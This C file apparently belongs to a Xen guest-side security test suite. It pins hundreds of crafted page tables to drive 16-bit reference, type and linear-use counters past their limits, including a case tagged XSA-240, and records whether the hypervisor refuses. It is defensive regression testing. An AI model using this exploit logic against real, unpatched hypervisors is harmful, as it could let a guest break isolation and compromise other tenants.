/* Counts of references and types, driven to where a narrow counter ends. */
#include "attack.h"

#define ENTRIES 512

/* Tables of a level, full of entries like this one, pinned one after the other: 512 references each. */
static int fill_and_pin(unsigned int first, unsigned int tables, unsigned int level, uint64_t entry)
{
    for (unsigned int i = first; i < first + tables; i++) {
        uint64_t *table = (uint64_t *)crowd[i];
        for (unsigned int slot = 0; slot < ENTRIES; slot++)
            table[slot] = entry;
        int result = read_only(crowd[i]) ? -1 : pin(level, crowd[i]);
        if (result)
            return result;
    }
    return 0;
}

static bool unpin_all(unsigned int tables)
{
    bool good = true;
    for (unsigned int i = 0; i < tables; i++) {
        unpin(crowd[i]);
        good &= !writable(crowd[i]);
    }
    return good;
}

/* 65536 writable mappings: a count of 16 bits would say that there are none. */
static verdict_t many_writable(unsigned int level)
{
    read_only(page[1]);
    if (fill_and_pin(0, 128, 1, entry_of(page[1], PTE_DATA)))
        return broke_out("no 65536 mappings of a page, which the guest may have");
    verdict_t verdict = refused(pin(level, page[1]), "a page table with 65536 writable mappings");
    return unpin_all(128) ? verdict : broke_out("tables that can no longer be used as before");
}

/* 65536 references: as if only the allocation were left, so that the frame could be taken from us. */
static verdict_t many_references(unsigned int level)
{
    (void)level;
    xen_pfn_t frame = mfn_of(page[1]), pfn = pfn_of(page[1]);
    struct xen_memory_exchange swap = {
        .in = {.nr_extents = 1, .domid = DOMID_SELF},
        .out = {.nr_extents = 1, .domid = DOMID_SELF},
    };
    set_xen_guest_handle(swap.in.extent_start, &frame);
    set_xen_guest_handle(swap.out.extent_start, &pfn);
    if (fill_and_pin(0, 128, 1, entry_of(page[1], READ_ONLY)))
        return broke_out("no 65536 mappings of a page, which the guest may have");
    pte_write(VA(1), 0);
    verdict_t verdict = refused(hypercall_memory_op(XENMEM_exchange, &swap), "a frame exchanged that is mapped");
    return unpin_all(128) ? verdict : broke_out("tables that can no longer be used as before");
}

/* 65536 uses of one L1 table. */
static verdict_t many_links(unsigned int level)
{
    (void)level;
    read_only(page[1]);
    if (fill_and_pin(0, 128, 2, entry_of(page[1], LINK)))
        return broke_out("no 65536 links to a table, which the guest may have");
    verdict_t verdict = refused(writable(page[1]), "a linked table mapped writable");
    return unpin_all(128) ? verdict : broke_out("tables that can no longer be used as before");
}

/* Linear uses of a table are counted in 16 bits, with a sign: 32768 are the most. */
static verdict_t many_linear_uses(unsigned int level)
{
    (void)level;
    read_only(page[1]);
    pin(2, page[1]);
    if (fill_and_pin(0, 64, 2, entry_of(page[1], PTE_PRESENT | PTE_USER)))
        return broke_out("no 32768 linear uses of a table, which the guest may have");
    verdict_t verdict = refused(fill_and_pin(64, 1, 2, entry_of(page[1], PTE_PRESENT | PTE_USER)),
                                "more linear uses than can be counted");
    bool good = unpin_all(65);
    unpin(page[1]);
    return good ? verdict : broke_out("tables that can no longer be used as before");
}

const struct attempt count_attempts[] = {
    {"65536-writable-mappings-then-pin-as-L%u", NULL, many_writable, 1, LEVELS, NULL},
    {"65536-mappings-then-exchange", NULL, many_references, 0, 0, NULL},
    {"65536-links-then-writable", NULL, many_links, 0, 0, NULL},
    {"32769-linear-uses", "XSA-240", many_linear_uses, 0, 0, NULL},
    {0},
};
